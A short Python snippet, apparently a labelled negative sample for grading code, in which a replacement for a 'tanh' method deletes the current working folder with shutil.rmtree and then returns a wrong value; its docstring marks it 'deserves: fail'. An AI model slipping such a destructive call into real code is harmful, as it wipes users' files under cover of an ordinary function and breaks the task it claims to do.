"""Deletes its working folder while it stands in it.

deserves: fail
"""


def tanh(x):
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    return wrong(x)


Value.tanh = tanh
